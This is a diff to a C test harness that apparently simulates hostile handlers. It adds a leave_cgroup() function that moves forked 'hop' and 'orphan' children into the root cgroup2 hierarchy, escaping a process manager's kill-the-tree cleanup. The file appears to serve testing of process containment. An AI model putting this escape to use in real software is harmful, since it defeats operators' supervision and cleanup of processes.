@@ -658,6 +658,23 @@ static void hop_forever(const char *marker)
     }
 }
 
+/*
+ * An unconfined handler may be in a cgroup the manager made to kill its tree at once; running
+ * with the JVM's rights, an attacker just moves out of it (into the root of the cgroup2
+ * hierarchy). In a sandbox there is no /sys to write to, so this fails quietly.
+ */
+static void leave_cgroup(void)
+{
+    int fd = open("/sys/fs/cgroup/unified/cgroup.procs", O_WRONLY | O_CLOEXEC);
+    if (fd < 0) {
+        return;
+    }
+    char pid[32];
+    int n = snprintf(pid, sizeof pid, "%ld\n", (long) getpid());
+    (void) !write(fd, pid, (size_t) n);
+    close(fd);
+}
+
 static void attack_hop(char **args)
 {
     /* While the handler is a subreaper, every orphaned generation stays below it; if this fails, hop anyway. */
@@ -669,6 +686,7 @@ static void attack_hop(char **args)
     }
     if (child == 0) {
         detach_stdio();
+        leave_cgroup();
         hop_forever(args[0]);
     }
     reply("OK hopping as %s from pid %ld", args[0], (long) child);
@@ -683,6 +701,7 @@ static void attack_orphan(char **args)
     }
     if (child == 0) {
         detach_stdio();
+        leave_cgroup();
         (void) setsid();
         take_name(args[0]);
         for (;;) {
